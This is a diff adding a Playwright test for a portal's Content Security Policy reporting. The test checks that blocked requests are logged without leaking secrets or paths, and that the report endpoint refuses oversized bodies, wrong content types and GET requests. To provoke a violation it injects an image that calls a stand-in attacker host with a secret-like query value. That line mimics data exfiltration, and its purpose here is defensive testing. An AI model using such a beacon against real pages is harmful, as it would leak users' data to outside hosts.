@@ -78,6 +78,30 @@ async function nonceOf(request: APIRequestContext, path: string): Promise<string
   return nonce
 }
 
+test("what the policy of a page stops is in the log, without what is nobody's business", async ({
+  visit,
+  tolerate,
+}) => {
+  tolerate(/Content Security Policy/)
+  const page = await visit(portal)
+  await page.goto('/sign-in?next=%2Fsecret-page')
+  await page.evaluate(() =>
+    document.body.append(Object.assign(new Image(), { src: 'http://evil.example/x.png?hunter2' })),
+  )
+  // Nor did any page before offend against its own policy.
+  const reported = () => portal.output().match(/^.*portal\.csp.*$/gm) ?? []
+  await expect
+    .poll(reported)
+    .toEqual([expect.stringMatching(/directive=img-src blocked=http:\/\/evil\.example page=\/sign-in disposition=/)])
+  expect(reported().join()).not.toMatch(/hunter2|secret-page/)
+  const { request } = page.context()
+  const send = (data: string, type: string) =>
+    request.post('/api/csp-reports', { data: Buffer.from(data), headers: { 'content-type': type } })
+  expect((await send('x'.repeat(17_000), 'application/csp-report')).status()).toBe(413)
+  expect((await send('{}', 'application/json')).status()).toBe(415)
+  expect((await request.get('/api/csp-reports')).status()).toBe(405)
+})
+
 test('signing out ends the session for good, also for who kept its cookie', async ({ visit }) => {
   const page = await visit(portal)
   await signIn(page, AUGUST)
